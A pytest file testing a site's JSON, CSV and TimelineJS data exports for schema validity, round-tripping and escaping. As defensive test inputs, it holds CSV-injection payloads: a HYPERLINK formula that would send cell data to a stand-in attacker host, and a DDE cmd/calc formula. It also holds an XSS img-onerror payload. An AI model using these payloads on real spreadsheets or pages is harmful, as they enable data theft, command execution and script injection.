"""The downloads: they validate against the published schemas, round-trip to the loaded data, and the
TimelineJS file has what that format requires."""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path

import jsonschema
import pytest

from hooks import urls
from hooks.publish import export
from hooks.publish.export_schema import CSV_COLUMNS, SCHEMAS, SHARED, field_rows, schema_document
from hooks.content.load import load_site
from hooks.content.model import PARAGRAPH_SOURCE
from hooks.render.common import Context
from hooks.render.data_page import data_page

ROOT = Path(__file__).resolve().parents[1]
SITE_URL = "https://example.org/explainer/"
DATA_SETS = {"fixture": ROOT / "tests" / "fixtures" / "minimal" / "data", "real": ROOT / "data"}


@pytest.fixture(scope="module", params=sorted(DATA_SETS))
def site(request):
    return load_site(DATA_SETS[request.param])


@pytest.fixture(scope="module")
def files(site) -> dict[str, str]:
    return export.downloads(site, SITE_URL)


def validator(name: str) -> jsonschema.Draft202012Validator:
    schema = json.loads(schema_document(name, SITE_URL))
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


def assert_valid(name: str, document: dict) -> None:
    errors = sorted(validator(name).iter_errors(document), key=lambda e: list(e.absolute_path))
    assert not errors, "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errors[:10])


def test_every_json_download_validates_against_the_schema_it_names(site, files):
    documents = {urls.EVENTS_JSON: "events", urls.PEOPLE_JSON: "people", urls.QUOTES_JSON: "quotes"}
    documents |= {urls.timeline_json(t): "timelinejs" for t in site.timelines}
    assert sorted(path for path in files if path.endswith(".json") and not path.endswith(".schema.json")) \
        == sorted(documents)
    for path, name in documents.items():
        document = json.loads(files[path])
        assert_valid(name, document)
        if name != "timelinejs":  # TimelineJS's own format has no place for it
            assert document["$schema"] == SITE_URL + urls.schema(name)
            assert urls.schema(name) in files, f"{path} names a schema the site does not ship"


def test_the_schemas_reject_what_they_should():
    """Stable field names: an unknown or missing field fails validation, so the tests above can fail."""
    good = {"$schema": SITE_URL + "data/quotes.schema.json", "quotes": []}
    assert_valid("quotes", good)
    assert list(validator("quotes").iter_errors({**good, "extra": 1}))
    assert list(validator("quotes").iter_errors({"quotes": []}))
    assert list(validator("timelinejs").iter_errors({"events": [{"start_date": {"month": 5}}]}))


def resolved_url(site, source: str) -> str:
    if match := PARAGRAPH_SOURCE.fullmatch(source):
        return f"{SITE_URL}articles/{match['article']}/#p{match['number']}"
    return f"{SITE_URL}references/#{source}"


def test_events_json_round_trips(site, files):
    records = json.loads(files[urls.EVENTS_JSON])["events"]
    assert [r["id"] for r in records] == sorted(site.events, key=lambda i: (site.events[i][1].date.sort_key(), i))
    for record in records:
        timeline, event = site.events[record["id"]]
        assert record["timeline"] == timeline.id
        assert record["url"] == f"{SITE_URL}timelines/{timeline.id}/#{event.id}"
        assert record["date"]["edtf"] == event.date.text
        assert record["date"]["precision"] == event.date.precision
        assert record["date"]["earliest"] == event.date.earliest.isoformat()
        assert record["date"]["latest"] == event.date.latest.isoformat()
        assert (record["date_basis"], record["headline"], record["summary"], record["status"]) == \
            (event.date_basis, event.headline, event.summary, event.status)
        assert (record["actors"], record["topics"]) == (list(event.actors), list(event.topics))
        assert [s["id"] for s in record["sources"]] == list(event.sources)
        assert [s["url"] for s in record["sources"]] == [resolved_url(site, s) for s in event.sources]
        assert [(q["text"], q["said_by"], q["source"]) for q in record["quotes"]] == \
            [(q.text, q.said_by, q.source) for q in event.quotes]
        assert [(c["date"]["edtf"], c["note"]) for c in record["corrections"]] == \
            [(c.date.text, c.note) for c in event.corrections]
        for source in record["sources"]:
            if source["kind"] == "article-paragraph":
                article = site.articles[source["article"]]
                assert source["paragraph"] in article.paragraphs
                assert (source["title"], source["original_url"]) == (article.meta.title, article.meta.url)
            else:
                reference = site.references[source["id"]]
                assert (source["publisher"], source["original_url"]) == (reference.publisher, reference.url)


def as_written(cell: str) -> str:
    """A CSV cell without the `'` that keeps a spreadsheet from reading it as a formula."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(export.FORMULA_START) else cell


def csv_rows(document: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(document, newline="")))


def test_events_csv_round_trips_and_matches_the_json(site, files):
    rows = [{column: as_written(cell) for column, cell in row.items()} for row in csv_rows(files[urls.EVENTS_CSV])]
    assert list(rows[0]) == [column for column, _ in CSV_COLUMNS]
    assert files[urls.EVENTS_CSV].count("\r\n") >= len(rows) + 1, "RFC 4180 line ends"
    records = json.loads(files[urls.EVENTS_JSON])["events"]
    assert [row["id"] for row in rows] == [record["id"] for record in records]
    for row in rows:
        _, event = site.events[row["id"]]
        assert (row["date"], row["date_precision"], row["headline"], row["summary"], row["status"]) == \
            (event.date.text, event.date.precision, event.headline, event.summary, event.status)
        assert row["date_basis"] == (event.date_basis or "")
        assert row["approximate"] == str(event.date.approximate).lower()
        assert row["actors"].split() == list(event.actors) and row["topics"].split() == list(event.topics)
        assert row["sources"].split() == list(event.sources)
        assert row["source_urls"].split() == [resolved_url(site, s) for s in event.sources]


def test_no_csv_cell_can_start_a_spreadsheet_formula(data_copy):
    """OWASP's CSV injection rule: a cell starting with = + - @ tab or CR gets a leading ', in every column."""
    path = data_copy / "timelines" / "example-relations.yml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "headline: Example ministers meet at Example Harbour",
        "headline: '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")'\n"
        "    date_basis: '@SUM(1+1)*cmd|'' /C calc''!A0'").replace(
        "summary: Example Minister Kim and Example Minister Wang hold invented talks and agree to keep talking.",
        "summary: '+1+1 and -2'"), encoding="utf-8")
    site = load_site(data_copy)
    document = export.events_csv(site, SITE_URL)
    row = next(row for row in csv_rows(document) if row["id"] == "example-harbour-meeting")
    assert row["headline"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    assert row["date_basis"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["summary"] == "'+1+1 and -2"
    for row in csv_rows(document):
        for column, cell in row.items():
            assert not cell.startswith(export.FORMULA_START), (column, cell)
    # Only the first character counts: the same text later in a cell stays as written.
    assert export._csv_cell("a=b") == "a=b" and export._csv_cell("\tx") == "'\tx" and export._csv_cell("\rx") == "'\rx"
    assert export._csv_cell(["-a", "b"]) == "'-a b"


def test_people_json_round_trips(site, files):
    records = json.loads(files[urls.PEOPLE_JSON])["people"]
    assert sorted(r["id"] for r in records) == sorted(site.people)
    for record in records:
        person = site.people[record["id"]]
        assert (record["name"], record["native_name"], record["country"], record["summary"]) == \
            (person.name, person.native_name, person.country, person.summary)
        assert record["url"] == f"{SITE_URL}people/{person.id}/"
        assert [(r["title"], r["start"]["edtf"], r["end"] and r["end"]["edtf"]) for r in record["roles"]] == \
            [(r.title, r.start.text, r.end and r.end.text) for r in person.roles]
        assert [s["id"] for s in record["sources"]] == list(person.sources)
        assert record["events"] == [event.id for _, event in site.events_by_person[person.id]]


def test_quotes_json_round_trips(site, files):
    records = json.loads(files[urls.QUOTES_JSON])["quotes"]
    assert [(r["text"], r["said_by"], r["source"]["id"], r["event"]) for r in records] == \
        [(u.quote.text, u.quote.said_by, u.quote.source, u.event.id if u.event else None) for u in site.quotes]
    for record in records:
        paragraph = site.articles[record["source"]["article"]].paragraphs[record["source"]["paragraph"]]
        assert record["text"] in paragraph.text, "a quote is verbatim in the paragraph it links to"


def test_timelinejs_file_has_the_formats_required_fields(site, files):
    """Knight Lab's format: `events` (required) of slides with `start_date.year` (required), optional
    month/day/display_date, `text` {headline, text}, `unique_id`, `group`, `end_date`; a `title` slide."""
    for timeline in site.timelines.values():
        document = json.loads(files[urls.timeline_json(timeline.id)])
        assert html.unescape(document["title"]["text"]["headline"]) == timeline.title
        slides = document["events"]
        assert [s["unique_id"] for s in slides] == [e.id for e in timeline.events]
        for slide, event in zip(slides, timeline.events):
            start, end = slide["start_date"], slide.get("end_date")
            assert isinstance(start["year"], int) and start["year"] == event.date.start.year
            assert start.get("month") == event.date.start.month and start.get("day") == event.date.start.day
            assert bool(end) == bool(event.date.end)
            if end:
                assert (end["year"], end.get("month"), end.get("day")) == \
                    (event.date.end.year, event.date.end.month, event.date.end.day)
            assert slide["display_date"] == event.date.display()
            assert html.unescape(slide["text"]["headline"]) == event.headline
            assert f"{SITE_URL}timelines/{timeline.id}/#{event.id}" in slide["text"]["text"]
            if event.topics:
                assert html.unescape(slide["group"]) == site.topics[event.topics[0]].title


def test_timelinejs_text_is_escaped_html(data_copy):
    """TimelineJS renders headline and text as HTML: markup in the data must arrive as text."""
    path = data_copy / "timelines" / "example-relations.yml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "headline: Example ministers meet at Example Harbour",
        "headline: 'Example ministers meet <img src=x onerror=alert(1)> & talk'"), encoding="utf-8")
    site = load_site(data_copy)
    document = json.loads(export.timelinejs_json(site, SITE_URL, site.timelines["example-relations"]))
    slide = next(s for s in document["events"] if s["unique_id"] == "example-harbour-meeting")
    assert "<img" not in slide["text"]["headline"]
    assert slide["text"]["headline"] == "Example ministers meet &lt;img src=x onerror=alert(1)&gt; &amp; talk"


def test_timelinejs_group_is_escaped_html(data_copy):
    """TimelineJS sets the group label (the first topic's title) as HTML too: an entity typed in a title
    (the loader already refuses < and >) must show as typed, not as what it stands for."""
    path = data_copy / "topics.yml"
    text = path.read_text(encoding="utf-8")
    title = next(line for line in text.splitlines() if line.strip().startswith("title:"))
    path.write_text(text.replace(title, title.split("title:")[0] + "title: 'Trade &lt;img src=x onerror=alert(1)&gt; & ports'", 1),
                    encoding="utf-8")
    site = load_site(data_copy)
    groups = {slide.get("group") for slide in json.loads(export.timelinejs_json(
        site, SITE_URL, site.timelines["example-relations"]))["events"]}
    assert "Trade &amp;lt;img src=x onerror=alert(1)&amp;gt; &amp; ports" in groups


def test_the_data_page_documents_every_field_and_links_every_download(site, files):
    page = data_page(Context(site, site_url=SITE_URL))
    documented = {path for schema in [*SCHEMAS.values(), *SHARED.values()] for path, _, _ in field_rows(schema)}
    documented |= {column for column, _ in CSV_COLUMNS}
    missing = [path for path in documented if f"<code>{html.escape(path, quote=False)}</code>" not in page]
    assert not missing, f"fields not documented on /data/: {missing}"
    for schema in [*SCHEMAS.values(), *SHARED.values()]:
        assert all(description for _, _, description in field_rows(schema)), "every field has a description"
    for path in files:
        assert f'href="{urls.file_link(urls.DATA, path)}"' in page, f"/data/ does not link {path}"
    assert f'href="{urls.file_link(urls.DATA, urls.FEED)}"' in page


def test_an_article_paragraph_source_carries_its_editors_notes(site, files):
    """Every source record says which editors' notes qualify it (none for a reference), as the data has them."""
    records = json.loads(files[urls.EVENTS_JSON])["events"]
    sources = [source for record in records for source in record["sources"]]
    for source in sources:
        if source["kind"] == "reference":
            assert source["notes"] == []
            continue
        notes = site.articles[source["article"]].notes_by_paragraph.get(source["paragraph"], [])
        assert source["notes"] == [{"date": export.date_record(note.date), "text": note.text,
                                    "sources": list(note.sources)} for note in notes]
    assert any(source["notes"] for source in sources), "no event cites a paragraph with a note"


def test_the_fixtures_note_is_exported():
    site = load_site(DATA_SETS["fixture"])
    record = export.source_record(site, SITE_URL, "example-harbour-talks#p1")
    assert record["notes"] == [{"date": export.date_record(site.articles["example-harbour-talks"].meta.notes[0].date),
                                "text": "The invented white paper had proposed the ferry route a month before this "
                                        "fictional meeting.", "sources": ["example-white-paper"]}]
    assert record["notes"][0]["date"]["edtf"] == "2030-04-01"
    assert export.source_record(site, SITE_URL, "example-harbour-talks#p2")["notes"] == []
    assert export.source_record(site, SITE_URL, "example-white-paper")["notes"] == []
